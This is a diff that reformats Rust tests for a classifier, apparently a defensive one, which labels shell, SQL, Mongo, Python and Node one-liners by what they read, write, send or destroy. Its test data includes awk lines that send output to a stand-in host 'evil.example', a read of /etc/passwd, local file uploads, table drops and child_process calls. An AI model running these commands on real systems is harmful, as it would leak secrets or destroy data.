@@ -8,11 +8,7 @@ fn shown(found: &Found) -> String {
     parts.extend(found.reads.iter().map(|path| format!("reads {path}")));
     parts.extend(found.writes.iter().map(|path| format!("writes {path}")));
     parts.extend(found.shell.iter().map(|source| format!("shell {source}")));
-    for (flag, name) in [
-        (found.sends, "sends"),
-        (found.destroys, "destroys"),
-        (found.rights, "rights"),
-    ] {
+    for (flag, name) in [(found.sends, "sends"), (found.destroys, "destroys"), (found.rights, "rights")] {
         parts.extend(flag.then(|| name.to_owned()));
     }
     parts.extend((!found.doubts.is_empty()).then(|| "doubt".to_owned()));
@@ -26,12 +22,8 @@ fn check(language: &str, cases: &[(&str, &str)]) {
         .filter_map(|(code, expected)| {
             let found = read_text(language, code);
             let shown = shown(&found);
-            (shown != *expected).then(|| {
-                format!(
-                    "{code}\n    expected `{expected}`, found `{shown}` {:?}",
-                    found.doubts
-                )
-            })
+            (shown != *expected)
+                .then(|| format!("{code}\n    expected `{expected}`, found `{shown}` {:?}", found.doubts))
         })
         .collect();
     assert!(wrong.is_empty(), "{language}:\n{}", wrong.join("\n"));
@@ -97,10 +89,7 @@ fn awk_programs() {
             ("{print > \"out\"}", "writes out"),
             ("{print $1, $2 >> \"out\"}", "writes out"),
             ("{print(1)(2) > \"out\"; x = 1 > 2}", "writes out"),
-            (
-                "{printf \"%s\", $1 > \"/dev/stderr\"}",
-                "writes /dev/stderr",
-            ),
+            ("{printf \"%s\", $1 > \"/dev/stderr\"}", "writes /dev/stderr"),
             ("{print > $1}", "doubt"),
             ("{print > \"out\" $1}", "doubt"),
             ("{print | \"sort\"}", "shell sort"),
@@ -109,16 +98,10 @@ fn awk_programs() {
             ("{print | cmd}", "doubt"),
             ("BEGIN{system(\"id\")}", "shell id"),
             ("BEGIN{system(\"id \" $1)}", "doubt"),
-            (
-                "BEGIN{while ((getline line < \"secret\") > 0) print line}",
-                "reads secret",
-            ),
+            ("BEGIN{while ((getline line < \"secret\") > 0) print line}", "reads secret"),
             ("BEGIN{getline < ARGV[1]}", "doubt"),
             ("BEGIN{getline x < f}", "doubt"),
-            (
-                "BEGIN{print \"x\" |& \"/inet/tcp/0/evil.example/80\"}",
-                "doubt",
-            ),
+            ("BEGIN{print \"x\" |& \"/inet/tcp/0/evil.example/80\"}", "doubt"),
             ("{print > \"/inet/tcp/0/evil.example/80\"}", "doubt"),
             ("@load \"filefuncs\"", "doubt"),
             ("BEGIN{f=\"system\"; @f(\"id\")}", "doubt"),
@@ -164,10 +147,7 @@ fn sql_statements() {
             ("select 'drop table t'; -- delete from t", ""),
             ("select \"drop\" from t /* truncate */", ""),
             ("with x as (select 1) select * from x", ""),
-            (
-                "with x as (delete from t returning *) select * from x",
-                "destroys",
-            ),
+            ("with x as (delete from t returning *) select * from x", "destroys"),
             ("explain delete from t", ""),
             ("explain analyze delete from t", "destroys"),
             ("drop table t; explain select 1", "destroys"),
@@ -241,10 +221,7 @@ fn mysql_commands() {
             ("source evil.sql", "doubt"),
             ("pager sh", "doubt"),
             ("select * from t into outfile '/tmp/x'", "doubt"),
-            (
-                "load data local infile 'secret' into table t",
-                "reads secret, sends",
-            ),
+            ("load data local infile 'secret' into table t", "reads secret, sends"),
             ("load data infile 'secret' into table t", "doubt"),
             ("select load_file('/etc/passwd')", "doubt"),
             ("select 1 # drop table t", ""),
@@ -304,10 +281,7 @@ fn mongo_calls() {
             ("db.users.deleteMany({})", "destroys"),
             ("db.dropDatabase()", "destroys"),
             ("db.users.insertOne({a: 1})", "sends"),
-            (
-                "db.users.aggregate([{$match: {}}, {$out: \"x\"}])",
-                "destroys",
-            ),
+            ("db.users.aggregate([{$match: {}}, {$out: \"x\"}])", "destroys"),
             ("db.users.find({$where: \"x\"})", "doubt"),
             ("load(\"x.js\")", "doubt"),
             ("process.exit()", "doubt"),
@@ -348,25 +322,13 @@ fn python_one_liners() {
         &[
             ("print(1 + 1)", ""),
             ("import sys; print(sys.version)", ""),
-            (
-                "import json,sys\nd = json.load(sys.stdin)\nfor x in d['a']:\n    print(x.get('b'), len(d))",
-                "",
-            ),
-            (
-                "import sys,json; print(json.dumps(json.load(sys.stdin), indent=2))",
-                "",
-            ),
+            ("import json,sys\nd = json.load(sys.stdin)\nfor x in d['a']:\n    print(x.get('b'), len(d))", ""),
+            ("import sys,json; print(json.dumps(json.load(sys.stdin), indent=2))", ""),
             ("print([x for x in range(5) if x % 2])", ""),
             ("x = 3\nprint(f\"{x} and {x:>5}\")", ""),
-            (
-                "import json; print(json.load(open('package.json'))['version'])",
-                "reads package.json",
-            ),
+            ("import json; print(json.load(open('package.json'))['version'])", "reads package.json"),
             ("open('out', 'w').write('x')", "writes out"),
-            (
-                "with open('a', encoding='utf-8') as f:\n    print(f.read())",
-                "reads a",
-            ),
+            ("with open('a', encoding='utf-8') as f:\n    print(f.read())", "reads a"),
             ("open(x)", "doubt"),
             ("open('a' + 'b')", "doubt"),
             ("import os; os.system('id')", "doubt"),
@@ -421,18 +383,9 @@ fn node_ruby_and_php_one_liners() {
         &[
             ("console.log(1 + 1)", ""),
             ("console.log(process.version)", ""),
-            (
-                "console.log(require('./package.json').version)",
-                "reads ./package.json",
-            ),
-            (
-                "console.log(JSON.parse(require('fs').readFileSync('a.json', 'utf8')).name)",
-                "reads a.json",
-            ),
-            (
-                "const x = [1,2].map(y => y * 2); console.log(x.join(','))",
-                "",
-            ),
+            ("console.log(require('./package.json').version)", "reads ./package.json"),
+            ("console.log(JSON.parse(require('fs').readFileSync('a.json', 'utf8')).name)", "reads a.json"),
+            ("const x = [1,2].map(y => y * 2); console.log(x.join(','))", ""),
             ("require('child_process').execSync('id')", "doubt"),
             ("require('./evil')", "doubt"),
             ("process.env.TOKEN", "doubt"),
